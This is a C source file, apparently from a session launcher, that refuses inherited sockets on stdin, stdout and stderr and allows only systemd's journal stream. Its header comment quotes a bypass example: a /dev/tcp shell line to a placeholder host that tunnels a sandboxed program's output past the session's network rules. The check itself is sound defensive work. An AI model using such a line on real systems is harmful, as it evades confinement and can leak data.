/*
 * fds 0-2 before the session starts. A socket the program inherits on stdin, stdout or
 * stderr was created outside the session's cgroup, so the session's rules do not see its
 * traffic (`exec 0<>/dev/tcp/HOST/80; ldm-run ... -- sh -c '... >&0'`). ldm-run runs
 * before any session exists, so no socket on these fds can have been made in the session:
 * every socket is refused, with one exception, systemd's journal stream (an AF_UNIX
 * stream socket connected to /run/systemd/journal/stdout), which desktop launchers and
 * systemd units put on stdout and stderr; it only carries log lines to journald. Pipes,
 * ttys, regular files, /dev/null and closed fds are fine: a pipe or a file is no way to a
 * new peer.
 */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>

#include "ldm/util.h"
#include "run/run.h"

#define JOURNAL_STDOUT "/run/systemd/journal/stdout"

static const char *
family_name(int family)
{
	switch (family) {
	case AF_UNIX:
		return "AF_UNIX";
	case AF_INET:
		return "AF_INET";
	case AF_INET6:
		return "AF_INET6";
	case AF_PACKET:
		return "AF_PACKET";
	case AF_NETLINK:
		return "AF_NETLINK";
	default:
		return NULL;
	}
}

bool
ldm_run_stdio_socket_ok(int family, int type, const char *peer)
{
	return family == AF_UNIX && type == SOCK_STREAM && peer != NULL &&
	       strcmp(peer, JOURNAL_STDOUT) == 0;
}

/* The pathname S is connected to, in BUF; "" when none (unnamed, abstract, unconnected). */
static void
peer_path(int fd, char *buf, size_t size)
{
	struct sockaddr_un sa;
	socklen_t len = sizeof(sa);

	buf[0] = '\0';
	memset(&sa, 0, sizeof(sa));
	if (getpeername(fd, (struct sockaddr *)&sa, &len) < 0 || sa.sun_family != AF_UNIX ||
	    len <= offsetof(struct sockaddr_un, sun_path) || sa.sun_path[0] == '\0')
		return;
	len -= offsetof(struct sockaddr_un, sun_path);
	if (len >= size)
		len = (socklen_t)size - 1;
	memcpy(buf, sa.sun_path, len);
	buf[len] = '\0';
}

int
ldm_run_check_stdio(char *why, size_t size)
{
	static const char *const names[3] = { "stdin", "stdout", "stderr" };

	for (int fd = 0; fd < 3; fd++) {
		int family = -1, type = -1;
		socklen_t l = sizeof(int);
		char peer[sizeof(((struct sockaddr_un *)0)->sun_path) + 1], fam[32];
		const char *fn;
		struct stat st;

		if (fstat(fd, &st) < 0) {
			if (errno == EBADF)
				continue;
			snprintf(why, size, "cannot inspect %s (fd %d): %s", names[fd], fd,
			         strerror(errno));
			return -errno;
		}
		if (!S_ISSOCK(st.st_mode))
			continue;
		if (getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &family, &l) < 0)
			family = -1;
		l = sizeof(int);
		if (getsockopt(fd, SOL_SOCKET, SO_TYPE, &type, &l) < 0)
			type = -1;
		peer_path(fd, peer, sizeof(peer));
		if (ldm_run_stdio_socket_ok(family, type, peer))
			continue;
		fn = family_name(family);
		if (fn == NULL) {
			snprintf(fam, sizeof(fam), "family %d", family);
			fn = fam;
		}
		snprintf(why, size,
		         "%s (fd %d) is a %s %s socket%s%s made outside the session; give it a "
		         "pipe, a file or a tty",
		         names[fd], fd, fn,
		         type == SOCK_STREAM  ? "stream"
		         : type == SOCK_DGRAM ? "datagram"
		                              : "other",
		         peer[0] != '\0' ? " connected to " : "", peer);
		return -EPERM;
	}
	return 0;
}
